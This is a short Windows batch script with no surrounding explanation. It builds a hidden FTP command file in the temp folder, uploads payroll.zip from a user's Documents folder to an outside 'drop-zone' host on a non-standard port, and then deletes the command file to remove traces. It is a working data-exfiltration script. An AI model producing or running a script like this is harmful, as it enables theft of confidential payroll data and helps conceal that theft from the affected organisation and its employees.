@echo off
cd /d C:\Users\jsmith\Documents
echo open ftp.drop-zone.example 2121>%TEMP%\~u.tmp
echo user upload>>%TEMP%\~u.tmp
echo binary>>%TEMP%\~u.tmp
echo put payroll.zip>>%TEMP%\~u.tmp
echo bye>>%TEMP%\~u.tmp
ftp -n -i -s:%TEMP%\~u.tmp
del %TEMP%\~u.tmp
